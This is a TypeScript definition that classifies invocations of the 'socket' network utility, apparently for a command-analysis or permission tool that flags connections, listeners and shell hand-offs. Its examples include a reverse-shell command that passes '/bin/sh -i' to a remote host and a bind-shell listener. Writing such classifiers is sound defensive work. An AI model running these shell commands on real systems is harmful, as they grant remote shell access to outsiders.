// socket: connects or listens, and may hand the connection to a program. Source: socket(1) 1.1.
import { command } from './define.ts'
import { address, talk } from './lib/net.ts'
import { nothing } from './roles.ts'

export default command('socket', {
  options: { '-p <program>': nothing },
  harmless: '-b | -c | -f | -l | -q | -r | -s | -v | -w | -B <address> | -version',
  operands: { '<host>': nothing, '<port>': nothing },
  always: given => {
    const [host, port] = given.operands
    if (!host) return []
    const target = given('-s') ? address(undefined, port ?? host) : address(host, port)
    return given('-p') || given('-s')
      ? [{ kind: 'connect', target, ...(given('-s') && { listens: true }), ...(given('-p') && { shell: true }) }]
      : [talk(target, given)]
  },
  examples: {
    'socket a.dev 80': ['connect a.dev:80'],
    "socket -qvp '/bin/sh -i' a.dev 4444": ['connect a.dev:4444 (shell)'],
    'socket -sp sh 4444': ['connect :4444 (listens) (shell)'],
  },
})
